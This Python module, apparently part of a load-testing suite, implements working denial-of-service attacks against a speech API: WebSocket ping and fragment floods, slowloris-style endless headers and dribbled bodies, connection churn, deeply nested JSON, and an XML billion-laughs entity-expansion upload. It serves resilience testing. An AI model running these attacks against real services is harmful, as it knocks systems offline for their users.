"""Attacks by bare sockets and uploads: heads, frames and bodies that cost their sender less than their reader."""

from __future__ import annotations

import base64
import json
import os
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from urllib.parse import urlsplit

from loadtests.attacks.attack import Attack

_BYTES_PER_S = 1_000_000
_PIECE_BYTES = 16_384
_TIMEOUT_S = 10.0
_AGAIN_S = 0.1  # after a socket was closed
_SPEECH = "/v1/audio/speech"
_FIELD = b"X: xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\r\n"
_EMPTY_PING = bytes([0x89, 0x80]) + bytes(4)
_EMPTY_PART = bytes([0x00, 0x80]) + bytes(4)
_LEXICON = "<lexicon><lexeme><grapheme>Nguyen</grapheme><alias>win</alias></lexeme></lexicon>"
_HELD = 400  # connections
_LONG = "This is said and never heard. " * 120


@contextmanager
def _dial(url: str) -> Iterator[socket.socket]:
    place = urlsplit(url)
    with socket.create_connection((place.hostname or "127.0.0.1", place.port or 80), _TIMEOUT_S) as connection:
        yield connection


def _without_end(url: str, talk: Callable[[socket.socket], None]) -> None:
    """Again from a new socket whenever the server closes one, as it shall."""
    while True:
        with suppress(OSError), _dial(url) as connection:
            talk(connection)
        time.sleep(_AGAIN_S)


def _pour(connection: socket.socket, unit: bytes) -> None:
    """`unit` over and over at 1 MB/s, until the server has enough."""
    piece = unit * (_PIECE_BYTES // len(unit))
    while True:
        connection.sendall(piece)
        time.sleep(len(piece) / _BYTES_PER_S)


def _upgrade(connection: socket.socket) -> None:
    key = base64.b64encode(os.urandom(16)).decode()
    lines = [f"GET {_SPEECH}/ws HTTP/1.1", "Host: localhost", "Upgrade: websocket", "Connection: Upgrade"]
    lines += [f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13", "", ""]
    connection.sendall("\r\n".join(lines).encode())
    connection.recv(4096)


def _post(connection: socket.socket, path: str, body: bytes, kind: str = "application/json") -> None:
    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n"
    connection.sendall(head.encode() + body)


def empty_pings(url: str) -> None:
    def talk(connection: socket.socket) -> None:
        _upgrade(connection)
        _pour(connection, _EMPTY_PING)

    _without_end(url, talk)


def empty_parts(url: str) -> None:
    def talk(connection: socket.socket) -> None:
        _upgrade(connection)
        connection.sendall(bytes([0x01, 0x81]) + bytes(4) + b"{")
        _pour(connection, _EMPTY_PART)

    _without_end(url, talk)


def endless_heads(url: str) -> None:
    def talk(connection: socket.socket) -> None:
        connection.sendall(b"GET /health HTTP/1.1\r\nHost: localhost\r\n")
        _pour(connection, _FIELD)

    _without_end(url, talk)


def dribbled_requests(url: str) -> None:
    """Many connections at once, each with a byte a second of a body that never ends."""
    held: list[socket.socket] = []
    place = urlsplit(url)
    while True:
        while len(held) < _HELD:
            connection = socket.create_connection((place.hostname or "127.0.0.1", place.port or 80), _TIMEOUT_S)
            head = f"POST {_SPEECH} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5000\r\n\r\n{{"
            with suppress(OSError):
                connection.sendall(head.encode())
                held.append(connection)
            time.sleep(0.005)
        time.sleep(1.0)
        for connection in held[:]:
            try:
                connection.sendall(b" ")
            except OSError:
                held.remove(connection)
                connection.close()


def connections_for_nothing(url: str) -> None:
    """A hundred a second, closed at once."""
    while True:
        with suppress(OSError), _dial(url):
            pass
        time.sleep(0.01)


def nested_json(url: str) -> None:
    body = b'{"input": "Hello.", "instructions": ' + b"[" * 30_000 + b"]" * 30_000 + b"}"

    def talk(connection: socket.socket) -> None:
        while True:
            _post(connection, _SPEECH, body)
            connection.recv(65_536)
            time.sleep(len(body) / _BYTES_PER_S)

    _without_end(url, talk)


def lexicons(url: str) -> None:
    """A document that expands a billionfold, and one that is merely as long as allowed, in turn."""
    entities = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10))
    bomb = f'<!DOCTYPE lexicon [<!ENTITY e0 "ha">{entities}]>{_LEXICON.replace("win", "&e9;")}'
    long = _LEXICON.replace("<lexeme>", "<lexeme>" + "<grapheme>x</grapheme>" * 10_000)

    def talk(connection: socket.socket) -> None:
        for document in (bomb, long):
            parts = [("name", "", "d"), ("file", '; filename="d.pls"', document)]
            body = "".join(
                f'--b\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n{value}\r\n'
                for name, more, value in parts
            )
            path = "/v1/pronunciation-dictionaries/add-from-file"
            _post(connection, path, f"{body}--b--\r\n".encode(), "multipart/form-data; boundary=b")
            connection.recv(65_536)
            time.sleep(0.1)

    _without_end(url, talk)


def unread_answers(url: str) -> None:
    """Long texts whose audio is never fetched, ten held at a time."""
    body = json.dumps({"input": _LONG, "response_format": "pcm"}).encode()
    held: list[socket.socket] = []
    place = urlsplit(url)
    while True:
        with suppress(OSError):
            connection = socket.create_connection((place.hostname or "127.0.0.1", place.port or 80), _TIMEOUT_S)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            _post(connection, _SPEECH, body)
            held.append(connection)
        if len(held) > 10:
            held.pop(0).close()
        time.sleep(2.0)


ATTACKS = (
    Attack(name="empty pings", what="empty PING frames at 1 MB/s", run=empty_pings),
    Attack(name="empty parts", what="a message in empty parts at 1 MB/s", run=empty_parts),
    Attack(name="endless heads", what="request heads at 1 MB/s that never end", run=endless_heads),
    Attack(name="dribbled requests", what=f"{_HELD} bodies of a byte a second", run=dribbled_requests),
    Attack(
        name="connections for nothing", what="100 connections a second, closed at once", run=connections_for_nothing
    ),
    Attack(name="nested JSON", what="60 kB of brackets in each request, at 1 MB/s", run=nested_json),
    Attack(name="lexicons", what="uploads that expand a billionfold, or hold 10,000 spellings", run=lexicons),
    Attack(
        name="unread answers", what="2 minutes of speech asked for every two seconds and never read", run=unread_answers
    ),
)
